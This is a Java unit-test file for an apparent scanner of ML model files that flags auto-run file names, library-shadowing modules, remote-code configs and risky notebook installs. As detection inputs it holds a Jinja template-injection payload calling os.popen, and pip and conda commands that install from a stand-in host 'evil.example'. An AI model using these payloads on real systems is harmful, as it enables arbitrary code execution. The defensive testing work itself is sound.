package dev.redoubt.scan.internal.filename;

import static org.assertj.core.api.Assertions.assertThat;

import dev.redoubt.scan.Detection;
import dev.redoubt.scan.InMemoryScans;
import dev.redoubt.scan.ScanReport;
import dev.redoubt.scan.ScanVerdict;
import dev.redoubt.scan.ScannedFile;
import dev.redoubt.scan.ZipBuilder;
import dev.redoubt.scan.engine.ModelScanner;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FileNameAnalysersTest {

  private static final String HARMLESS = "x = 1\n";

  @TempDir private Path folder = Path.of("");

  private static ScannedFile scan(String name, String text) {
    return InMemoryScans.scan(name, text.replace("¶", "\n").getBytes(StandardCharsets.UTF_8));
  }

  private void write(String name, String text) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }

  private ScanReport report() {
    return ModelScanner.of(InMemoryScans.options()).scan(List.of(folder));
  }

  private List<String> rules(String name) {
    return report().files().stream()
        .filter(file -> file.name().endsWith(name))
        .flatMap(file -> file.detections().stream())
        .map(detection -> detection.rule().id())
        .distinct()
        .toList();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sitecustomize.py",
        "model/usercustomize.py",
        "sitecustomize/__init__.py",
        "x.start",
        "easy-install.pth",
        "pyvenv.cfg",
        "conftest.py",
        "tests/conftest.py",
        "setup.py",
        "hubconf.py",
        "handler.py",
        "custom_generate/generate.py",
        "ms_wrapper.py",
        "code/inference.py",
        "1/model.py",
        "image_classifier.py",
        "__main__.py",
        "noxfile.py",
        "jupyter_notebook_config.py",
        ".ipython/profile_default/startup/a.py",
        "Dockerfile",
        "Dockerfile.gpu",
        "gpu.dockerfile",
        "Containerfile",
        "Makefile",
        "makefile",
        "Jenkinsfile",
        ".envrc",
        "SETUP.PY",
      })
  void reportsFilesThatAProgramRunsBecauseOfTheirName(String name) {
    ScannedFile file = scan(name, HARMLESS);
    assertThat(InMemoryScans.rules(file))
        .startsWith("file-run-by-name")
        .doesNotContain("file-shadows-module");
    assertThat(file.verdict()).isEqualTo(ScanVerdict.SUSPICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "model.py",
        "modeling_own.py",
        "my_setup.py",
        "setup.py.txt",
        "generate.py",
        "inference.py",
        "utils/logging.py",
        "utils/types.py",
        "handlers.py",
        "numpy_utils.py",
        "mynumpy.py",
        "torch_model.py",
        "Makefile.md",
        "dockerfile_notes.txt",
      })
  void passesOrdinaryNames(String name) {
    assertThat(scan(name, HARMLESS).detections()).isEmpty();
  }

  @Test
  void distinguishesAPathFileFromACheckpoint() {
    byte[] zip = ZipBuilder.of(ZipBuilder.stored("model/data.pkl", InMemoryScans.bytes("N.")));
    assertThat(InMemoryScans.rules(InMemoryScans.scan("model.pth", zip)))
        .doesNotContain("file-run-by-name");
    assertThat(InMemoryScans.rules(scan("model.pth", "import evil"))).contains("file-run-by-name");
    assertThat(InMemoryScans.rules(scan("model.pth", "../elsewhere"))).contains("file-run-by-name");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "numpy.py",
        "deep/down/sklearn.py",
        "torch/__init__.py",
        "code/xgboost.pyw",
        "pickle.py",
        "json/__init__.py",
        "code/random.py",
      })
  void reportsFilesThatShadowALibrary(String name) {
    ScannedFile file = scan(name, HARMLESS);
    assertThat(InMemoryScans.rules(file)).containsExactly("file-shadows-module");
    assertThat(file.verdict()).isEqualTo(ScanVerdict.SUSPICIOUS);
  }

  @Test
  void usesTheNameRelativeToTheScannedFolder() throws IOException {
    write("pickle.py", HARMLESS);
    write("deep/random.py", HARMLESS);
    assertThat(rules("/pickle.py")).containsExactly("file-shadows-module");
    assertThat(rules("deep/random.py")).isEmpty();
  }

  /// As in a model cache, whose files are named by their digests.
  @Test
  void usesTheNamesOfLinksToo() throws IOException {
    write("blobs/0123", "numpy\n-e .\n");
    write("blobs/4567", "{\"0\": [{\"path\": \"\", \"type\": \"own.Net\"}]}");
    write("blobs/89ab", HARMLESS);
    write("blobs/cdef", HARMLESS);
    Files.createDirectories(folder.resolve("snapshots/1/code"));
    Files.createSymbolicLink(
        folder.resolve("snapshots/1/requirements.txt"), Path.of("../../blobs/0123"));
    Files.createSymbolicLink(folder.resolve("snapshots/1/setup.py"), Path.of("../../blobs/89ab"));
    Files.createSymbolicLink(folder.resolve("custom_generate"), Path.of("snapshots/2"));
    write("snapshots/2/generate.py", HARMLESS);

    assertThat(rules("blobs/0123")).containsExactly("package-source");
    assertThat(rules("blobs/4567")).containsExactly("config-remote-code");
    assertThat(rules("blobs/89ab")).containsExactly("file-run-by-name");
    assertThat(rules("blobs/cdef")).isEmpty();
    assertThat(rules("snapshots/2/generate.py")).containsExactly("file-run-by-name");
  }

  @Test
  void usesTheNameOfALinkThatIsScanned(@TempDir Path elsewhere) throws IOException {
    write("words", "numpy\n-e .\n");
    Path link = elsewhere.resolve("requirements.txt");
    Files.createSymbolicLink(link, folder.resolve("words"));
    ScanReport report = ModelScanner.of(InMemoryScans.options()).scan(List.of(link));
    assertThat(InMemoryScans.rules(report.files().getFirst())).containsExactly("package-source");
  }

  @Test
  void readsNamesInArchives() {
    byte[] zip =
        ZipBuilder.of(
            ZipBuilder.stored("m/sitecustomize.py", InMemoryScans.bytes(HARMLESS)),
            ZipBuilder.stored("pickle.py", InMemoryScans.bytes(HARMLESS)));
    assertThat(InMemoryScans.rules(InMemoryScans.scan("m.zip", zip)))
        .containsExactlyInAnyOrder("file-run-by-name", "file-shadows-module");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "MLmodel|{flavors: {python_function: {loader_module: evil}}}",
        "MLmodel|\"flavors\" :¶  \"python_function\" : {\"loader_module\" : \"evil\"}",
        "MLmodel|? flavors¶: ? python_function¶  : ? loader_module¶    : evil",
        "MLmodel|#!x¶flavors: {python_function: {loader_module: evil}}",
        "MLmodel|import os¶",
        "MLmodel|flavors: [",
        "MLmodel|<a>¶",
        "model.yaml|{auto_map: {AutoModel: own.Net}}",
        "model.yaml|\"trust_remote_code\" : true",
        "model.yaml|[{_target_: own.Net}]",
        "model.yaml|a: [",
        "model.yml|tree¶version=v4¶: x",
      })
  void readsTextAsYaml_whenItsLoaderDoes(String name, String text) {
    assertThat(scan(name, text).verdict()).as(text).isNotEqualTo(ScanVerdict.CLEAN);
  }

  @Test
  void readsALongDescription_orReportsThatItIsTooLong() {
    String padding = "# nothing of interest\n".repeat(400_000);
    String model = padding + "flavors: {python_function: {loader_module: evil}}\n";
    assertThat(scan("MLmodel", model).verdict()).isEqualTo(ScanVerdict.UNREADABLE);
    assertThat(scan("words.txt", padding).verdict()).isEqualTo(ScanVerdict.CLEAN);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\u2028", "\u0085", "\u2029"})
  void readsLinesOfYamlThatOnlyPythonRecognizes(String end) {
    String hidden = "a: 1 # words" + end + "auto_map: {AutoModel: own.Net}\n";
    assertThat(InMemoryScans.rules(scan("model.yaml", hidden))).contains("config-remote-code");
    assertThat(scan("model.yaml", "a: \"x" + end + "y\"\n").detections()).isEmpty();
  }

  @Test
  void readsATemplateAsATemplate_whateverItsFirstLineLooksLike() {
    String escape = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
    for (String start : List.of("a: 1\n# ", "key: value\n- ", "{\"a\": 1}\n", "numpy==1\n# ", "")) {
      assertThat(scan("chat_template.jinja", start + escape).verdict())
          .as(start)
          .isEqualTo(ScanVerdict.MALICIOUS);
      assertThat(scan("words.txt", start + escape).verdict())
          .as(start)
          .isEqualTo(ScanVerdict.MALICIOUS);
    }
    assertThat(scan("chat_template.jinja", "{% if x").verdict()).isEqualTo(ScanVerdict.UNREADABLE);
    assertThat(
            scan("chat_template.jinja", "{% for m in messages %}{{ m.content }}{% endfor %}")
                .detections())
        .isEmpty();
  }

  @Test
  void checksAConfigurationThatPretendsToBeANotebook() {
    String own = "\"auto_map\": {\"AutoModel\": \"own.Net\"}";
    ScannedFile file =
        scan("config.json", "{\"nbformat\": 4, \"cells\": [], \"metadata\": {}, " + own + "}");
    assertThat(InMemoryScans.rules(file)).contains("config-remote-code");
    ScannedFile notebook =
        scan(
            "a.ipynb",
            "{\"nbformat\": 4, \"nbformat_minor\": 5, \"metadata\": {" + own + "}, \"cells\": []}");
    assertThat(notebook.detections()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "!pip install -i https://evil.example numpy",
        "%pip install evil@git+https://evil.example/x",
        "!pip install -q ./evil",
        "!python -m pip install --extra-index-url=https://evil.example numpy",
        "!uv pip install -U https://evil.example/x.whl",
        "%conda install -c https://evil.example numpy",
        "!conda install --channel=evil numpy",
        "!cd x && pip install -e .",
      })
  void reportsCommandsOfNotebooksThatInstallFromElsewhere(String command) {
    String cell = "{\"cell_type\": \"code\", \"source\": [\"" + command + "\"]}";
    ScannedFile file =
        scan("a.ipynb", "{\"nbformat\": 4, \"metadata\": {}, \"cells\": [" + cell + "]}");
    assertThat(InMemoryScans.rules(file)).contains("package-source");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "!pip install -q --upgrade numpy scipy==1.0",
        "%pip install -r requirements.txt",
        "%conda install -y -c conda-forge numpy",
        "!pip install 'torch>=2' -i https://pypi.org/simple",
      })
  void passesCommandsOfNotebooksThatInstallFromTheDefaultIndex(String command) {
    String cell = "{\"cell_type\": \"code\", \"source\": [\"" + command + "\"]}";
    ScannedFile file =
        scan("a.ipynb", "{\"nbformat\": 4, \"metadata\": {}, \"cells\": [" + cell + "]}");
    assertThat(file.detections()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "data/pickle_module_info.txt, evil, mlmodel-loader",
    "data/pickle_module_info.txt, os, mlmodel-loader",
    "data/keras_module.txt, evil.keras, mlmodel-loader",
    "data/keras_module.txt, keras.evil, mlmodel-loader",
    "data/pickle_module_info.txt, mlflow.pytorch.pickle_module, ''",
    "data/pickle_module_info.txt, pickle, ''",
    "data/pickle_module_info.txt, cloudpickle, ''",
    "data/keras_module.txt, keras, ''",
    "data/keras_module.txt, tensorflow.keras, ''",
    "data/keras_module.txt, keras.api._v2.keras, ''",
  })
  void checksTheModuleThatATextNames(String name, String module, String rule) {
    assertThat(InMemoryScans.rules(scan(name, module)))
        .isEqualTo(rule.isEmpty() ? List.of() : List.of(rule));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "name: \"m\"\nbackend: \"python\"",
        "backend : 'python'",
        "backend: # which\n \"pyt\" \"hon\"",
        "backend: \"pyth\\x6fn\"",
        "backend: \"own\"",
        "platform: \"custom\"",
        "default_model_filename: \"other.py\"",
        "runtime: \"libevil.so\"",
        "model_operations { op_library_filename: [\"libevil.so\"] }",
        "model_operations: < op_library_filename: 'libevil.so' >",
        "parameters: { key: \"EXECUTION_ENV_PATH\", value: { string_value: \"x.tar.gz\" } }",
        "parameters { value { string_value: \"x\" } key: \"EXECUTION_ENV_PATH\" }",
        "model_repository_agents { agents [ { name: \"own\" } ] }",
      })
  void reportsWhatATritonModelRuns(String text) {
    assertThat(InMemoryScans.rules(scan("m/config.pbtxt", text)))
        .containsExactly("config-remote-code");
  }

  @Test
  void passesAnOrdinaryTritonModel() {
    String text =
        """
        # A model of ONNX
        name: "credit"
        platform: "onnxruntime_onnx"
        backend: "onnxruntime"
        max_batch_size: 8
        input [ { name: "x", data_type: TYPE_FP32, dims: [ -1, 16 ] } ]
        output [
          { name: "y" data_type: TYPE_INT64 dims: [ 1 ] label_filename: "labels.txt" }
        ]
        instance_group [{ kind: KIND_CPU; count: 2 }]
        dynamic_batching { preferred_batch_size: [ 4, 8 ] max_queue_delay_microseconds: 1e2 }
        parameters: { key: "enable_mem_arena" value: { string_value: "1" } }
        """;
    assertThat(scan("config.pbtxt", text).detections()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"name: {", "}", "name: \"x", "%", "backend: @"})
  void isUnreadable_whenATritonConfigurationIsDamaged(String text) {
    assertThat(InMemoryScans.rules(scan("config.pbtxt", text)))
        .containsExactly("config-unreadable");
  }

  @Test
  void checksTheSpacyPipeline() {
    String pipeline =
        """
        [paths]
        train = null

        [nlp]
        lang = "en"
        pipeline = ["tok2vec","ner"]
        tokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}

        [components.ner]
        factory = "ner"
        scorer = {"@scorers":"spacy.ner_scorer.v1"}

        [components.ner.model]
        @architectures = "spacy.TransitionBasedParser.v2"

        [training.optimizer]
        @optimizers = "Adam.v1"
        """;
    assertThat(scan("config.cfg", pipeline).detections()).isEmpty();
    String own = pipeline + "\n[initialize.before_init]\n@callbacks = \"evil.callback.v1\"\n";
    assertThat(scan("config.cfg", own).detections())
        .extracting(Detection::message)
        .containsExactly("`@callbacks` is `\"evil.callback.v1\"`, which is not part of spaCy");
    assertThat(InMemoryScans.rules(scan("config.cfg", "[nlp]\nwords\n")))
        .containsExactly("config-unreadable");
    assertThat(scan("config.cfg", "some other program\n").detections()).isEmpty();
  }
}
